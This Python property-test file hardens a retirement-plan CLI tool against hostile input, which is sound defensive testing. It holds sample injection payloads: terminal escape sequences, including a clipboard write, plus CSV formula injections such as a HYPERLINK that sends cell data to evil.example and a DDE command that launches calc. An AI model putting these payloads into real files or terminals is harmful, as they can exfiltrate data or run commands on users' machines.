"""Property tests over the whole CLI surface: `ask`, every `calc` and its flags, `walk
--answers`, every `log` subcommand, given values a careless or hostile user could type.

Each example runs the real entry point in process (the knowledge base and the assistant
are loaded once, so hundreds of runs take seconds). Whatever the input: exit 0 or a clear
refusal (exit 2; 1 for `vested log` on a file it cannot read), never a traceback or
Python's own words; a calculation never shows a negative amount or a share over 100%;
what `vested log` prints holds nothing a terminal would act on, and its CSV no formula.
"""

from __future__ import annotations

import csv
import io
import json
import shlex
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import TODAY
from tests.hostile import (
    TERMINAL_ACTIVE,
    assert_clean,
    assert_refusal_is_short,
    assert_sensible_text,
    hostile_values,
    run,
)
from vested.calculate import registry
from vested.calculate.fields import unit_of
from vested.commands import walk
from vested.core.answer import Answer
from vested.log.writer import AnswerLog
from vested.walkthroughs import registry as walkthroughs

PROPERTY = settings(
    max_examples=int(__import__("os").environ.get("HOSTILE_EXAMPLES", 60)),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
CALCULATORS = registry()
WALKTHROUGHS = walkthroughs()


@pytest.fixture(autouse=True)
def _loaded_once(monkeypatch, kb, assistant):
    """The CLI as it is, with the knowledge base and assistant built once for all examples."""
    monkeypatch.setattr("vested.knowledge.loader.load_knowledge_base", lambda *args: kb)
    monkeypatch.setattr("vested.commands.ask.build_assistant", lambda args: assistant)
    monkeypatch.setattr(walk, "today", lambda: TODAY)


# ------------------------------------------------------------------------ ask

questions = st.one_of(
    st.text(max_size=200),
    st.builds(lambda words, number: f"{words} {number}", st.text(max_size=60), hostile_values()),
    st.sampled_from(
        [
            "what is the 10% penalty on 9e9999999",
            "future value of 100 per year at 5% for 9e9999999 years",
            "50% match up to NaN%, I contribute -6% of +100% salary",
            "loan of +¥1000 at 1__000% for -5 years",
            "if I withdraw 1,0000 at -1e308",
            "how much can I contribute in -2025 at 1e308",
            "\x1b]0;PWNED\x07what is a rollover",
            '=HYPERLINK("http://evil.example")',
        ]
    ),
).filter(lambda text: "\x00" not in text and text != "-")  # "-" alone is the flag to read stdin (tested below)


@PROPERTY
@given(question=questions)
def test_ask_one_question(capsys, tmp_path, question):
    code, out, err = run(["--db", str(tmp_path / "log.db"), "ask", "--json", question], capsys)
    assert_clean(code, err)
    assert_refusal_is_short(code, err)
    if code == 0:
        answer = json.loads(out)
        assert_sensible_text(answer["answer"])
        assert not TERMINAL_ACTIVE.search(out.replace("\n", ""))


@PROPERTY
@given(lines=st.lists(st.binary(max_size=120).filter(lambda raw: b"\n" not in raw), min_size=1, max_size=8))
def test_ask_any_bytes_on_stdin_one_answer_a_line(capsys, monkeypatch, tmp_path, lines):
    data = b"\n".join(lines) + b"\n"
    code, out, err = run(["--db", str(tmp_path / "log.db"), "ask", "--json", "-"], capsys, data, monkeypatch)
    assert_clean(code, err, allowed=(0,))
    replies = [json.loads(line) for line in out.splitlines()]
    assert len(replies) == len(lines), "one answer a line, none lost or shifted"
    out.encode("utf-8")  # strict UTF-8: no lone surrogate reaches the output


# ----------------------------------------------------------------------- calc


def _base(name: str) -> list[str]:
    """A calculator's first example, the required flags valid: the frame a hostile value goes in."""
    example = shlex.split(CALCULATORS[name].examples[0])
    return example[3:]


def _flags(name: str) -> list[str]:
    return ["--" + field.replace("_", "-") for field in CALCULATORS[name].inputs.model_fields]


calc_runs = st.sampled_from(sorted(CALCULATORS)).flatmap(
    lambda name: st.tuples(
        st.just(name),
        st.lists(st.tuples(st.sampled_from(_flags(name)), hostile_values()), min_size=1, max_size=3),
    )
)


@PROPERTY
@given(calc_run=calc_runs)
def test_every_calculator_and_flag(capsys, calc_run):
    name, changes = calc_run
    args = _base(name) + [f"{flag}={value}" for flag, value in changes]
    code, out, err = run(["--no-log", "calc", name, *args, "--json"], capsys)
    assert_clean(code, err)
    assert_refusal_is_short(code, err)
    if code == 0:
        answer = json.loads(out)
        assert_sensible_text(answer["answer"])
        assert all("-$" not in step for step in answer["calculation"]["steps"])


@pytest.mark.parametrize("name", sorted(CALCULATORS))
@pytest.mark.parametrize("value", ["9e9999999", "1e308", "1e-999", "nan", "-1"])
def test_each_numeric_flag_refuses_absurd_numbers_in_one_line(capsys, name, value):
    spec = CALCULATORS[name]
    for field, info in spec.inputs.model_fields.items():
        if unit_of(info).kind not in {"money", "percent", "age", "years", "year", "count"}:
            continue
        flag = "--" + field.replace("_", "-")
        code, _, err = run(["--no-log", "calc", name, *_base(name), f"{flag}={value}"], capsys)
        assert_clean(code, err)
        if value != "-1" or unit_of(info).kind != "year":
            assert code == 2, (flag, value)
        assert_refusal_is_short(code, err)


def test_amounts_read_the_same_everywhere(capsys):
    """The one amount reader: a flag takes what a question and a walkthrough answer take."""
    code, out, _ = run(["--no-log", "calc", "loan_maximum", "--vested", "80 grand", "--json"], capsys)
    assert code == 0
    assert json.loads(out)["calculation"]["inputs"]["vested"] == "80000"
    for typed in ("$1.2m", "1.2 million", "1,200,000", "1200k"):
        code, out, _ = run(["--no-log", "calc", "loan_maximum", "--vested", typed, "--json"], capsys)
        assert json.loads(out)["calculation"]["outputs"]["max_new_loan"] == "50000"


# ----------------------------------------------------------------------- walk


def _answer_files() -> st.SearchStrategy[tuple[str, object]]:
    def for_walkthrough(name: str):
        fields = [step.field for step in WALKTHROUGHS[name].steps]
        value = st.one_of(
            hostile_values(),
            st.integers(),
            st.decimals(allow_nan=False, allow_infinity=False),
            st.booleans(),
            st.none(),
            st.lists(hostile_values(), max_size=3),
        )
        answers = st.dictionaries(st.sampled_from([*fields, "extra"]), value, max_size=len(fields) + 1)
        shaped = st.one_of(
            answers,
            st.builds(
                lambda given, what_if: {"answers": given, "what_if": what_if}, answers, st.lists(answers, max_size=3)
            ),
        )
        return st.tuples(st.just(name), shaped)

    return st.sampled_from(sorted(WALKTHROUGHS)).flatmap(for_walkthrough)


def _json_text(data: object) -> str:
    return json.dumps(data, default=lambda value: str(value) if isinstance(value, Decimal) else repr(value))


@PROPERTY
@given(answer_file=_answer_files())
def test_every_walkthrough_with_any_answers(capsys, tmp_path, answer_file):
    name, data = answer_file
    path = tmp_path / "answers.json"
    path.write_text(_json_text(data), encoding="utf-8")
    code, out, err = run(["--no-log", "walk", name, "--answers", str(path), "--json"], capsys)
    assert_clean(code, err)
    assert_refusal_is_short(code, err)
    if code == 0:
        for scenario in json.loads(out)["scenarios"]:
            assert_sensible_text(scenario["answer"]["answer"])


@PROPERTY
@given(raw=st.one_of(st.binary(max_size=300), st.sampled_from([b"[" * 100_000, b'{"age": ' + b"9" * 5000 + b"}"])))
def test_answers_files_of_any_bytes(capsys, tmp_path, raw):
    path = tmp_path / "answers.json"
    path.write_bytes(raw)
    code, _, err = run(["--no-log", "walk", "leaving-job", "--answers", str(path)], capsys)
    assert_clean(code, err)
    assert_refusal_is_short(code, err)


@pytest.mark.parametrize("source", ["/dev/zero", "/dev/urandom", "/dev/null", "/"])
def test_answers_from_devices_and_folders(capsys, source):
    code, _, err = run(["--no-log", "walk", "projection", "--answers", source], capsys)
    assert code == 2
    assert_clean(code, err)
    assert err.count("\n") == 1


@pytest.mark.parametrize(
    "answers",
    [
        {"needed": "10000", "balance": "80000", "loan_rate": "8%", "age": 40, "years_to_retirement": "9e9999999"},
        {"balance": "45000", "age": 41, "tax_rate": "1e308"},
        {"years_to_retirement": "Infinity"},
    ],
)
def test_answers_that_used_to_hang_or_crash(capsys, tmp_path, answers):
    path = tmp_path / "answers.json"
    path.write_text(json.dumps(answers))
    for name in ("borrow-or-withdraw", "leaving-job"):
        code, _, err = run(["--no-log", "walk", name, "--answers", str(path)], capsys)
        assert_clean(code, err)
        assert code == 2


# ------------------------------------------------------------------------ log

HOSTILE_QUESTIONS = [
    "\x1b]0;PWNED-TITLE\x07what is a rollover",
    "\x1b[2J\x1b[Hwhat is vesting",
    "\x1b]52;c;ZXZpbA==\x07clipboard",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3 what is an RMD",
    "@SUM(1+1)",
    "\u202eevil\u202c reversed",
    "\x9b31mC1 red",
    "caf\udce9 401k",
    "tab\tand\rreturn",
]


@pytest.fixture(scope="module")
def hostile_log(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "answers.db"
    log = AnswerLog(path, "ask", "kb")
    for question in HOSTILE_QUESTIONS:
        log.record(Answer(question=question, kind="fallback", answer=f"echo: {question}", confidence=0.1), 1.0)
    assert log.close() == []
    return path


log_commands = st.one_of(
    st.builds(lambda text: ["-q", text], hostile_values()),
    st.builds(lambda text: [f"--since={text}"], hostile_values()),
    st.builds(lambda text: [f"--session={text}"], hostile_values()),
    st.builds(lambda text: [f"-n={text}"], hostile_values()),
    st.builds(lambda text: [f"--source={text}"], hostile_values()),
    st.builds(lambda text: ["show", text], hostile_values().filter(lambda text: not text.startswith("-"))),
    st.builds(lambda text: ["stats", f"--since={text}"], hostile_values()),
    st.builds(lambda text: ["purge", f"--before={text}"], hostile_values()),
    st.sampled_from(
        [
            ["-q", '"'],
            ["-q", '""'],
            ["--since", "9999-12-31T23:59:59"],
            ["--since", "0001-01-01T00:00:00+14:00"],
            ["show", "9223372036854775808"],
            ["-n", "9223372036854775808"],
            ["--session", "9223372036854775808"],
        ]
    ),
)
outputs = st.sampled_from([[], ["--json"], ["--csv"]])


@PROPERTY
@given(command=log_commands, output=outputs)
def test_every_log_command(capsys, monkeypatch, hostile_log, command, output):
    if command[0] in ("show", "stats"):
        output = output[:1] if output == ["--json"] else []
    if command[0] == "purge":
        output = []
    code, out, err = run(["--db", str(hostile_log), "log", *command, *output], capsys, "n\n", monkeypatch)
    assert_clean(code, err, allowed=(0, 1, 2))
    assert not TERMINAL_ACTIVE.search(out.replace("\n", "").replace("\t", ""))
    if output == ["--csv"] and code == 0:
        for row in list(csv.reader(io.StringIO(out)))[1:]:
            assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row


@pytest.mark.parametrize("command", [[], ["show", "1"], ["stats"], ["--csv"], ["--json"], ["show", "3", "--json"]])
def test_stored_escape_sequences_never_reach_the_terminal(capsys, hostile_log, command):
    code, out, err = run(["--db", str(hostile_log), "log", *command], capsys)
    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\u202e" not in out
    if command == ["--json"]:
        stored = [json.loads(line)["question"] for line in out.splitlines()]
        assert "\x1b]0;PWNED-TITLE\x07what is a rollover" in stored, "JSON escapes them: nothing is lost"


def test_csv_formulas_are_neutralized(capsys, hostile_log):
    _, out, _ = run(["--db", str(hostile_log), "log", "--csv"], capsys)
    questions = [row["question"] for row in csv.DictReader(io.StringIO(out))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in questions
    assert "'+cmd|' /C calc'!A0" in questions
    assert "'@SUM(1+1)" in questions
    assert "what is vesting" in questions


@pytest.mark.parametrize(
    ("name", "answers"),
    [
        (
            "borrow-or-withdraw",
            {
                "needed": 10000,
                "balance": 60000,
                "loan_rate": "5",
                "age": 35,
                "expected_return": 7,
                "years_to_retirement": 30,
            },
        ),
        (
            "whole-match",
            {
                "salary": "1000000000",
                "deferral": 4,
                "formula": "100% of the first 3% and 50% of the next 2%",
                "age": 52,
                "year": 2026,
            },
        ),
    ],
    ids=["a loan that ends behind", "a deferral far over the limit"],
)
def test_walkthrough_steps_never_show_a_negative_amount(capsys, tmp_path, name, answers):
    """The stress run found these: a signed difference and a negative room printed as -$."""
    path = tmp_path / "answers.json"
    path.write_text(json.dumps(answers))
    code, out, err = run(["--no-log", "walk", name, "--answers", str(path), "--json"], capsys)
    assert code == 0, err
    for scenario in json.loads(out)["scenarios"]:
        assert_sensible_text(scenario["answer"]["answer"])
